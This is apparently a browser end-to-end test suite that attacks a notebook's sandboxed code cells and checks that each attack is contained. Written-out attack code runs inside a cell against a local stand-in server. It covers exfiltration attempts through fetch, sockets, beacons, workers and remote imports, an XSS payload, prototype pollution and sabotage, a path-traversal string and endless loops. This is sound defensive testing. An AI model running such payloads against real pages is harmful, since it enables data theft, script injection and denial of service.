/** Attacks from inside a real cell. For each: nothing leaves, nothing is read, the page and its cells go on. */

import { createServer, type Server } from "node:http";
import type { AddressInfo } from "node:net";
import { expect, type Page, test } from "@playwright/test";
import { cellOf, leaveDrafts, lesson, runButton, runCell, typeCode } from "./cells";

const attacker = "softmax";
const bystander = "rounding";

/** A server that everything may talk to, and that should never be talked to. */
let server: Server;
let target: string;
const seen: string[] = [];

test.beforeAll(async () => {
  server = createServer((request, response) => {
    seen.push(`${request.method} ${request.url}`);
    response.writeHead(200, { "access-control-allow-origin": "*", "content-type": "text/javascript" });
    response.end("self.leaked = true; export default 1;");
  });
  server.on("upgrade", (request, socket) => {
    seen.push(`UPGRADE ${request.url}`);
    socket.destroy();
  });
  await new Promise<void>((listening) => server.listen(0, "127.0.0.1", listening));
  target = `127.0.0.1:${(server.address() as AddressInfo).port}`;
});

test.afterAll(() => {
  server.closeAllConnections();
  server.close();
});

test.beforeEach(async ({ page }) => {
  seen.length = 0;
  await page.goto(lesson);
});

/** Runs the attack, then checks what must hold after every attack. Returns the attacker's output as text. */
async function attack(page: Page, code: string): Promise<string> {
  await leaveDrafts(page, { [attacker]: code });
  await expectPageAwake(page, () => runCell(cellOf(page, attacker)));
  await expectOthersWell(page);
  // What is long stands behind a word that opens it.
  await cellOf(page, attacker)
    .locator("details")
    .evaluateAll((all) => {
      for (const one of all) (one as HTMLDetailsElement).open = true;
    });
  const outputs = await cellOf(page, attacker).locator("[data-output]").allInnerTexts();
  return outputs.join("\n");
}

/**
 * The page answers within a second all the while. A freeze that we cause comes back each time; one that a busy
 * machine makes does not, so a slow attempt is tried again.
 */
async function expectPageAwake(page: Page, act: () => Promise<unknown>): Promise<void> {
  let gap = Number.POSITIVE_INFINITY;
  for (let attempt = 0; attempt < 3 && gap >= 1_000; attempt++) {
    await page.evaluate(startWatch);
    await act();
    gap = Math.min(gap, await page.evaluate(() => (window as unknown as Watched).endWatch()));
  }
  expect(gap, "milliseconds in which the page did not answer").toBeLessThan(1_000);
}

interface Watched {
  /** Ends the watch; the longest time between two ticks, in milliseconds. */
  endWatch(): number;
}

function startWatch(): void {
  let last = performance.now();
  let gap = 0;
  const tick = () => {
    gap = Math.max(gap, performance.now() - last);
    last = performance.now();
  };
  const timer = setInterval(tick, 20);
  (window as unknown as Watched).endWatch = () => {
    clearInterval(timer);
    tick();
    return gap;
  };
}

/** Runs a cell that must not fail; if it does, says what it said. */
async function expectToRun(page: Page, id: string): Promise<void> {
  const cell = cellOf(page, id);
  const state = await runCell(cell);
  const errors = await cell.locator('[data-output="error"]').allInnerTexts();
  expect({ state, errors }).toEqual({ state: "done", errors: [] });
}

async function expectOthersWell(page: Page): Promise<void> {
  await expectToRun(page, bystander);
  expect(seen, "requests that left the page").toEqual([]);
}

/** Each vector resolves to "refused …" or tells how it got through. */
const networkVectors = `
const target = "TARGET";
const vectors: Record<string, () => unknown> = {
  fetch: () => fetch("http://" + target + "/fetch"),
  "fetch no-cors": () => fetch("http://" + target + "/nocors", { mode: "no-cors" }),
  "fetch own origin": () => fetch("ORIGIN/build.json"),
  xhr: () => new Promise((ok, no) => {
    const request = new (globalThis as any).XMLHttpRequest();
    request.onload = ok;
    request.onerror = () => no(new Error("error event"));
    request.open("GET", "http://" + target + "/xhr");
    request.send();
  }),
  websocket: () => new Promise((ok, no) => {
    const socket = new (globalThis as any).WebSocket("ws://" + target + "/ws");
    socket.onopen = ok;
    socket.onerror = () => no(new Error("error event"));
  }),
  eventsource: () => new Promise((ok, no) => {
    const source = new (globalThis as any).EventSource("http://" + target + "/events");
    source.onopen = ok;
    source.onerror = () => { source.close(); no(new Error("error event")); };
  }),
  beacon: () => (navigator as any).sendBeacon("http://" + target + "/beacon"),
  importScripts: () => (globalThis as any).importScripts("http://" + target + "/scripts.js"),
  "import(url)": () => import(String("http://" + target + "/module.js")),
  "import(data:)": () => import(String("data:text/javascript,self.leaked=1")),
  worker: () => new (globalThis as any).Worker("http://" + target + "/worker.js"),
  "blob worker": () => new (globalThis as any).Worker(URL.createObjectURL(new Blob(["fetch('http://" + target + "/nested')"]))),
  "shared worker": () => new (globalThis as any).SharedWorker("http://" + target + "/shared.js"),
  webtransport: () => new (globalThis as any).WebTransport("https://" + target + "/wt").ready,
  webrtc: () => new (globalThis as any).RTCPeerConnection({ iceServers: [{ urls: "stun:" + target }] }),
  eval: () => (0, eval)("1"),
  "new Function": () => new Function("return 1")(),
};
for (const [name, run] of Object.entries(vectors)) {
  try {
    const late = new Promise((_, no) => setTimeout(() => no(new Error("no answer")), 2000));
    await Promise.race([run(), late]);
    console.log("LEAK " + name);
  } catch (error) {
    console.log("refused " + name);
  }
}
console.log("leaked", (globalThis as any).leaked);
`;

test("reaches no network by any road a worker has", async ({ page, baseURL }) => {
  const code = networkVectors.replace("TARGET", target).replace("ORIGIN", baseURL ?? "");
  const output = await attack(page, code);
  expect(output).not.toContain("LEAK");
  expect(output).toContain("refused new Function");
  expect(output).toContain("leaked undefined");
});

test("finds no storage, no page above it and no other tab", async ({ page }) => {
  await page.evaluate(() => localStorage.setItem("secret", "s"));
  const output = await attack(
    page,
    `const g = globalThis as any;
const found: string[] = [];
for (const name of ["localStorage", "sessionStorage", "document", "parent", "top", "opener", "frames", "cookieStore", "BroadcastChannel", "postMessage", "RTCPeerConnection", "Notification"])
  if (g[name] !== undefined) found.push(name);
for (const [name, use] of Object.entries({
  indexedDB: () => new Promise((ok, no) => { const r = g.indexedDB.open("x"); r.onsuccess = ok; r.onerror = () => no(r.error); }),
  caches: () => g.caches.open("x"),
  opfs: () => g.navigator.storage.getDirectory(),
  locks: () => g.navigator.locks.request("x", () => 1),
  serviceWorker: () => g.navigator.serviceWorker.register("/sw.js"),
  clipboard: () => g.navigator.clipboard.readText(),
})) {
  try { await use(); found.push(name); } catch {}
}
console.log("found:", found.join(" "), "origin:", g.origin);`,
  );
  expect(output).toContain("found:  origin: null");
  expect(page.url()).toContain(lesson);
});

const endless = {
  "an endless loop": "for (;;);",
  "an endless chain of promises":
    "const spin = (): Promise<void> => Promise.resolve().then(spin);\nawait spin();",
  "an endless wait": "await new Promise(() => {});",
};

for (const [name, code] of Object.entries(endless)) {
  test(`stops ${name} at once`, async ({ page }) => {
    await leaveDrafts(page, { [attacker]: code });
    await expectPageAwake(page, () => runUntilStopped(page));
    await expectOthersWell(page);
  });
}

/** Presses Run, then Stop: it stops within a second. */
async function runUntilStopped(page: Page): Promise<void> {
  const cell = cellOf(page, attacker);
  await runButton(cell).click();
  await expect(cell).toHaveAttribute("data-state", "running");
  await page.waitForTimeout(500);
  await runButton(cell).click();
  await expect(cell).toHaveAttribute("data-state", "stopped", { timeout: 1_000 });
}

test("absorbs a million console lines and says how many were left out", async ({ page }) => {
  const output = await attack(page, "for (let i = 0; i < 1e6; i++) console.log('line', i);");
  expect(output).toContain("line 19");
  expect(output).toContain("Show 480 more lines");
  expect(output).toContain("999,500 more outputs were left out");
});

test("absorbs a flood of displays from an endless loop until it is stopped", async ({ page }) => {
  await leaveDrafts(page, { [attacker]: "for (;;) display({ a: 1 });" });
  await expectPageAwake(page, () => runUntilStopped(page));
  await expect(cellOf(page, attacker).locator("[data-output]").first()).toBeVisible();
  await expectOthersWell(page);
});

test("cuts giant outputs", async ({ page }) => {
  const output = await attack(
    page,
    `display("x".repeat(1e8));
table(Array.from({ length: 1e5 }, (_, i) => ({ i, text: "y".repeat(100) })));
bars(Array.from({ length: 1e5 }, (_, i) => ({ label: String(i), value: i })));
heatmap(Array.from({ length: 1000 }, () => Array.from({ length: 1000 }, () => 1)));`,
  );
  expect(output).toContain("cut after 20000 characters");
  expect(output).toContain("50 of 100,000 rows");
  expect(output).toContain("first 200 of 100000 bars");
});

test("ends a cell whose outputs add up to too many bytes", async ({ page }) => {
  const output = await attack(
    page,
    `const rows = Array.from({ length: 1000 }, () => ({ a: "z".repeat(250) }));
for (let i = 0; i < 100; i++) table(rows); // 0.26 MB each`,
  );
  expect(output).toContain("Stopped: the cell's output passed 4 MB.");
});

test("draws nothing that a forged message asks for", async ({ page }) => {
  const forged = `'{"type":"display","display":{"kind":"html","html":"<img src=x onerror=window.owned=1>"}}'`;
  const output = await attack(page, `JSON.stringify = () => ${forged};\nconsole.log("x");`);
  expect(output).not.toContain("<img");
  await expect(cellOf(page, attacker).locator("img")).toHaveCount(0);
});

test("does not listen to messages from anywhere but its own port", async ({ page }) => {
  await attack(
    page,
    `const g = globalThis as any;
g.dispatchEvent(new g.MessageEvent("message", { data: { type: "display" } }));
for (const name of ["MessagePort", "EventTarget", "Array", "Map", "Promise", "Object"])
  for (const key of Object.getOwnPropertyNames(g[name].prototype))
    try { g[name].prototype[key] = () => { throw new Error("sabotaged"); }; } catch {}`,
  ).catch(() => "");
  expect(await page.evaluate(() => [].map.call([1], (one: number) => one + 1))).toEqual([2]);
  // The cells share a kernel, and this one is broken; the page can always start another.
  await page.getByRole("button", { name: "Restart" }).click();
  await expectToRun(page, bystander);
});

test("pollutes no prototype of the page", async ({ page }) => {
  await attack(
    page,
    `const evil = JSON.parse('{"__proto__":{"polluted":1},"constructor":{"prototype":{"polluted":1}}}');
display(evil);
table([evil, evil]);
display({ ["__proto__"]: { polluted: 1 } });
(Object.prototype as any).polluted = 1;
1;`,
  );
  expect(await page.evaluate(() => (({}) as { polluted?: number }).polluted)).toBeUndefined();
});

test("shows errors that cannot be read", async ({ page }) => {
  const output = await attack(page, "throw { toString() { throw new Error('twice'); } };");
  expect(output).toContain("reading it throws");
});

test("ends the timers of a run with it, and forgets what it left behind on Restart", async ({ page }) => {
  await leaveDrafts(page, {
    [attacker]:
      "const g = globalThis as any;\ng.left = (g.left ?? 0) + 1;\nsetInterval(() => (g.ticks = (g.ticks ?? 0) + 1), 1);\ng.left",
    [bystander]:
      "const h = globalThis as any;\nconst before = h.ticks;\nawait new Promise((r) => setTimeout(r, 300));\nString(h.ticks - before > 0)",
  });
  const [cell, watcher] = [cellOf(page, attacker), cellOf(page, bystander)];
  expect(await runCell(cell)).toBe("done");
  expect(await runCell(watcher)).toBe("done");
  await expect(watcher.locator("[data-output]")).toHaveText("true");
  // No bracket: the editor closes those that are typed.
  await typeCode(page, cell, "const g = globalThis as any;\ng.left");
  expect(await runCell(cell)).toBe("done");
  await expect(cell.locator("[data-output]")).toHaveText("1");
  expect(await runCell(watcher)).toBe("done");
  await expect(watcher.locator("[data-output]")).toHaveText("false");
  await page.getByRole("button", { name: "Restart" }).click();
  expect(await runCell(cell)).toBe("done");
  await expect(cell.locator("[data-output]")).toHaveCount(0);
});

test("refuses model calls that no cell may make", async ({ page }) => {
  const output = await attack(
    page,
    `const tries = {
  "no such model": () => model("../../secret"),
  "not a name": () => model({ toString: () => "x" } as any),
};
for (const [name, run] of Object.entries(tries))
  await run().then(() => console.log("LET IN " + name), (error) => console.log("refused " + name + ": " + error.message));`,
  );
  expect(output).not.toContain("LET IN");
  expect(output).toContain("refused not a name: model: the model's name is a string");
});
